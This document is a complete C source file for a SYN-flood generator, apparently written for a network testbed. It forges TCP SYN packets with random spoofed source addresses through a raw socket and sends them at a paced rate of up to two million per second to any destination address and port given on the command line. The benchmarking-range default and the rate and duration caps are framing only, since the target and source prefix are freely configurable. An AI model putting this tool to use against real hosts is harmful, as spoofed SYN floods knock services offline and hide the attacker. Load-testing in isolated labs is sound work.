/* synflood: spoofed TCP SYNs from a raw socket, paced, bounded.
 *
 * Sources are drawn uniformly from a prefix (default 198.18.0.0/15, the
 * RFC 2544 benchmarking range); the testbed routes that prefix to a
 * namespace that drops it, so SYN-ACKs never leave the namespaces.
 *
 *   synflood --dst 10.99.2.1 --dport 8080 --rate 50000 [--mode constant|poisson]
 *            [--duration 20] [--count N] [--src 198.18.0.0/15] [--seed 1]
 *
 * Stops after --duration seconds or --count SYNs, whichever first, or on
 * SIGINT/SIGTERM. Prints one line: sent, errors, elapsed, achieved rate.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <math.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define PKT 44 /* 20 IP + 24 TCP (MSS option) */

static volatile sig_atomic_t stop;
static void on_sig(int s) { (void)s; stop = 1; }

static uint64_t rng;
static uint64_t next_u64(void) { /* splitmix64 */
    uint64_t z = (rng += 0x9e3779b97f4a7c15ULL);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
}
static double next_unit(void) { return ((next_u64() >> 11) + 0.5) * (1.0 / 9007199254740992.0); }

static double now_s(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec * 1e-9;
}

static uint16_t csum(const void *data, size_t len, uint32_t sum) {
    const uint8_t *p = data;
    for (; len > 1; len -= 2, p += 2) sum += (uint32_t)p[0] << 8 | p[1];
    if (len) sum += (uint32_t)p[0] << 8;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static void build(uint8_t *b, uint32_t src, uint32_t dst, uint16_t dport) {
    memset(b, 0, PKT);
    b[0] = 0x45; b[2] = 0; b[3] = PKT; /* tot_len */
    uint16_t id = (uint16_t)next_u64();
    memcpy(b + 4, &id, 2);
    b[6] = 0x40; /* DF */
    b[8] = 64; b[9] = IPPROTO_TCP;
    memcpy(b + 12, &src, 4); memcpy(b + 16, &dst, 4);
    uint16_t ipc = csum(b, 20, 0);
    memcpy(b + 10, &ipc, 2);
    uint8_t *t = b + 20;
    uint16_t sport = htons((uint16_t)(1024 + next_u64() % 64512));
    uint32_t seq = (uint32_t)next_u64();
    memcpy(t, &sport, 2); memcpy(t + 2, &dport, 2); memcpy(t + 4, &seq, 4);
    t[12] = 6 << 4; t[13] = 0x02; /* SYN */
    t[14] = 0xfa; t[15] = 0xf0;   /* window 64240 */
    t[20] = 2; t[21] = 4; t[22] = 0x05; t[23] = 0xb4; /* MSS 1460 */
    uint8_t ph[12];
    memcpy(ph, &src, 4); memcpy(ph + 4, &dst, 4);
    ph[8] = 0; ph[9] = IPPROTO_TCP; ph[10] = 0; ph[11] = 24;
    uint32_t s = 0;
    for (int i = 0; i < 12; i += 2) s += (uint32_t)ph[i] << 8 | ph[i + 1];
    uint16_t tc = csum(t, 24, s);
    memcpy(t + 16, &tc, 2);
}

static void usage(void) {
    fprintf(stderr, "usage: synflood --dst IP --dport PORT --rate R [--mode constant|poisson] "
                    "[--duration S] [--count N] [--src A.B.C.D/LEN] [--seed N]\n");
    exit(2);
}

int main(int argc, char **argv) {
    const char *dst_s = NULL, *src_s = "198.18.0.0/15", *mode = "poisson";
    double rate = 0, duration = 10;
    long long count = -1;
    int dport = 0;
    uint64_t seed = 1;
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (!v) usage();
        if (!strcmp(a, "--dst")) dst_s = v;
        else if (!strcmp(a, "--dport")) dport = atoi(v);
        else if (!strcmp(a, "--rate")) rate = atof(v);
        else if (!strcmp(a, "--mode")) mode = v;
        else if (!strcmp(a, "--duration")) duration = atof(v);
        else if (!strcmp(a, "--count")) count = atoll(v);
        else if (!strcmp(a, "--src")) src_s = v;
        else if (!strcmp(a, "--seed")) seed = strtoull(v, NULL, 10);
        else usage();
        i++;
    }
    int constant = !strcmp(mode, "constant");
    if (!dst_s || dport <= 0 || dport > 65535 || rate <= 0 || rate > 2e6 || duration <= 0 ||
        duration > 3600 || (!constant && strcmp(mode, "poisson")))
        usage();
    char net[64];
    snprintf(net, sizeof net, "%s", src_s);
    char *slash = strchr(net, '/');
    int plen = slash ? atoi(slash + 1) : 32;
    if (slash) *slash = 0;
    struct in_addr base, dst;
    if (!inet_aton(net, &base) || !inet_aton(dst_s, &dst) || plen < 8 || plen > 32) usage();
    uint32_t hostbits = 32 - plen, base_h = ntohl(base.s_addr) & ~((1ULL << hostbits) - 1);
    rng = seed * 0x2545F4914F6CDD1DULL + 12345;

    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) { perror("socket(SOCK_RAW)"); return 1; }
    int sndbuf = 4 << 20;
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof sndbuf);
    prctl(PR_SET_TIMERSLACK, 1UL, 0, 0, 0);
    signal(SIGINT, on_sig);
    signal(SIGTERM, on_sig);

    static uint8_t pkts[BATCH][PKT];
    struct mmsghdr msgs[BATCH];
    struct iovec iov[BATCH];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
    for (int i = 0; i < BATCH; i++) {
        iov[i].iov_base = pkts[i];
        iov[i].iov_len = PKT;
        memset(&msgs[i], 0, sizeof msgs[i]);
        msgs[i].msg_hdr.msg_name = &to;
        msgs[i].msg_hdr.msg_namelen = sizeof to;
        msgs[i].msg_hdr.msg_iov = &iov[i];
        msgs[i].msg_hdr.msg_iovlen = 1;
    }
    uint16_t dport_n = htons((uint16_t)dport);
    long long sent = 0, errors = 0;
    double t0 = now_s(), end = t0 + duration;
    double due = t0; /* send time of the next SYN, relative schedule */
    if (!constant) due += -log(next_unit()) / rate;
    while (!stop && (count < 0 || sent < count)) {
        double now = now_s();
        if (now >= end) break;
        if (due > now) {
            double wait = due < end ? due : end;
            struct timespec ts = {.tv_sec = (time_t)wait, .tv_nsec = (long)((wait - (time_t)wait) * 1e9)};
            clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL);
            continue;
        }
        int n = 0;
        while (n < BATCH && due <= now && (count < 0 || sent + n < count)) {
            uint32_t off = hostbits ? (uint32_t)(next_u64() & ((1ULL << hostbits) - 1)) : 0;
            build(pkts[n], htonl(base_h | off), dst.s_addr, dport_n);
            n++;
            due += constant ? 1.0 / rate : -log(next_unit()) / rate;
        }
        int done = 0;
        while (done < n) {
            int r = sendmmsg(fd, msgs + done, n - done, 0);
            if (r < 0) {
                if (errno == EINTR && stop) break;
                errors++;
                done++; /* count the packet as lost, go on */
                continue;
            }
            done += r;
            sent += r;
        }
    }
    double el = now_s() - t0;
    printf("synflood sent=%lld errors=%lld elapsed_s=%.3f rate=%.1f mode=%s requested=%.1f\n", sent, errors,
           el, el > 0 ? sent / el : 0.0, mode, rate);
    return 0;
}
